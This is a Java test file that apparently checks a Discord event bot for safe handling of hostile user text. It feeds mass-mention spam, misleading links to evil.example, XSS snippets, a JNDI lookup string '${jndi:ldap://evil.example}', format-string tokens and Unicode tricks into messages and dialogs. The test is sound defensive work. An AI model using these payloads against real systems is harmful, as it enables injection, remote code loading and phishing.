package dev.parley.evening;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import dev.parley.platform.discord.local.Channel;
import dev.parley.platform.discord.local.Interaction;
import dev.parley.platform.discord.local.MessageRecord;
import dev.parley.platform.discord.local.Modal;
import dev.parley.platform.discord.local.Permission;
import dev.parley.platform.discord.local.User;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.OptionalInt;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Whatever people write, in messages, names and dialogs: nobody is called, nothing breaks, everything fits. */
class HostileTextTest {
    private static final Duration PATIENCE = Lounge.PATIENCE;
    private static final int LONGEST = 2_000;
    private static final Pattern LIE = Pattern.compile("(?<!\\\\)]\\(<?https://evil");
    private static final Pattern WORDS = Pattern.compile("(?:here is|in a dialog,) number \\d+,");

    @TempDir
    Path folder;

    private List<User> people = List.of();
    private final List<String> kept = new ArrayList<>();
    private final List<MessageRecord> answersToCommands = new ArrayList<>();

    @Test
    void whateverPeopleWriteCallsNobodyAndBreaksNothing() {
        try (Lounge lounge = new Lounge(folder)) {
            lounge.channel.allowsBot(Permission.MENTION_EVERYONE);
            lounge.serve(Hostile.plan(lounge.room));
            MessageRecord question = lounge.question("What do you write?");
            people = people(lounge);
            List<String> texts = texts(lounge);
            for (int at = 0; at < texts.size(); at++) {
                User person = people.get(at % people.size());
                String words = "here is number " + at + ",";
                person.says(at % 3 == 0 ? question.thread() : lounge.channel, "A1: " + words + " " + texts.get(at));
                kept.add(words);
            }
            dialogs(question, texts);
            commands(lounge, people.getFirst());
            asksHostile(lounge);
            ends(lounge);

            MessageRecord overview = lounge.posted("**Words** ·");
            await("the recap's parts")
                    .atMost(PATIENCE)
                    .until(() -> overview.thread() != null
                            && overview.thread().saidByBot().stream()
                                            .filter(message -> !message.isSystem())
                                            .count()
                                    == 2);
            assertThat(inRecap(lounge)).containsExactlyInAnyOrderElementsOf(kept);
            commands(lounge, people.getLast());
            harmless(lounge);
            page(overview);
            assertThat(lounge.discord.violations()).isEmpty();
        }
    }

    private static List<User> people(Lounge lounge) {
        return Stream.of(
                        "@everyone",
                        "**Bo** ||`here`||",
                        "\u202egnitset",
                        "<@&" + lounge.hosting.id() + ">",
                        "[me](https://evil.example/x)",
                        "# 😀😀😀😀😀😀😀😀😀😀😀😀",
                        "\u200b\u200d\ufeff.",
                        "{title}")
                .map(lounge.guild::member)
                .toList();
    }

    private static List<String> texts(Lounge lounge) {
        String hanna = lounge.hanna.mention();
        String role = "<@&" + lounge.hosting.id() + ">";
        return List.of(
                "@everyone and @here, " + hanna + " and " + role + ", come to " + lounge.channel.mention(),
                "**bold** __under__ *it* ~~gone~~ ||hidden|| `code` **unclosed __and *so `on ||",
                "```java\n@everyone\n``` and ``` a fence that is never closed\n" + hanna,
                "# heading\n## second\n-# small\n> quote\n>>> all the rest is quoted " + role,
                "- one\n  - two\n    - three\n1. @here",
                "[https://bank.example](https://evil.example/x) [safe](<https://evil.example/y>)",
                "[later](time:0) <t:0:F> </chat:1> <id:customize> <a:wave:1> <:wave:2>",
                "[x](javascript:alert(1)) <script>alert(1)</script> <img src=x onerror=alert(1)>",
                "\u202eright to left\u2066 and isolated \u2067 and never closed @everyone",
                "a\u200b@\u200beveryone @\u200beveryone \u200d\u200c\ufeff " + hanna.replace("@", "@\u200b"),
                "😀".repeat(980),
                "👩‍👩‍👧‍👦".repeat(170),
                "z" + "\u0300\u0301\u0302".repeat(500),
                "x".repeat(3_900),
                ("@everyone " + role + " ").repeat(60),
                "*".repeat(1_900),
                ">".repeat(1_900),
                "[".repeat(900) + "](".repeat(400),
                "\\".repeat(1_900),
                "`".repeat(1_901),
                "{title} {number} ${jndi:ldap://evil.example} %s %n \\u0000",
                "line\n".repeat(380),
                "https://evil.example/" + "y".repeat(1_800));
    }

    private void dialogs(MessageRecord question, List<String> texts) {
        for (int at = 0; at < people.size(); at++) {
            String words = "in a dialog, number " + at + ",";
            Modal dialog = people.get(at).pressesLabel(question, "Answer").modal();
            Interaction sent = people.get(at).submits(dialog, Map.of("text", words + " " + texts.get(at)));
            answersToCommands.add(sent.reply());
            kept.add(words);
        }
    }

    private void commands(Lounge lounge, User person) {
        for (String command : List.of("/mine", "/chat where", "/chat questions", "/chat recap")) {
            answersToCommands.add(person.runs(lounge.channel, command).reply());
        }
    }

    /** A host's own question goes to everybody, and calls nobody either. */
    private void asksHostile(Lounge lounge) {
        String hostile =
                "What about @everyone, <@&" + lounge.hosting.id() + "> and " + lounge.ana.mention() + " ||or||?";
        answersToCommands.add(lounge.hanna
                .runs(lounge.channel, "/chat add", Map.of("text", hostile))
                .reply());
        answersToCommands.add(lounge.hanna.runs(lounge.channel, "/chat next").reply());
        await("the added question")
                .atMost(PATIENCE)
                .until(() -> lounge.hosted.open().equals(OptionalInt.of(2)));
        lounge.question("What about");
    }

    private void ends(Lounge lounge) {
        answersToCommands.add(lounge.hanna.runs(lounge.channel, "/chat end").reply());
    }

    private static List<String> inRecap(Lounge lounge) {
        return Hostile.answers(lounge.hosted).map(HostileTextTest::words).toList();
    }

    /** The first words, which are harmless and tell which it is. */
    private static String words(String answer) {
        Matcher words = WORDS.matcher(answer);
        return words.find() ? words.group() : answer;
    }

    private void harmless(Lounge lounge) {
        Stream<Channel> places =
                Stream.concat(Stream.of(lounge.channel, lounge.hosts), lounge.channel.threads().stream());
        Stream<MessageRecord> inPrivate = Stream.concat(Stream.of(lounge.hanna, lounge.ana), people.stream())
                .flatMap(person -> person.inbox().stream());
        List<MessageRecord> all = Stream.of(
                        places.flatMap(place -> place.saidByBot().stream()), inPrivate, answersToCommands.stream())
                .flatMap(messages -> messages)
                .toList();
        assertThat(all).hasSizeGreaterThan(20).allSatisfy(message -> {
            assertThat(message.pings()).isEmpty();
            assertThat(message.content().length()).isLessThanOrEqualTo(LONGEST);
            assertThat(LIE.matcher(message.content()).find()).isFalse();
            assertThat(message.content()).doesNotContain("<t:0:", "{title}", "{number}");
        });
    }

    private static void page(MessageRecord overview) {
        Hostile.isHarmless(overview.attachments().stream()
                .filter(file -> file.name().equals("recap.html"))
                .map(file -> new String(file.bytes(), StandardCharsets.UTF_8))
                .findFirst()
                .orElseThrow());
    }
}
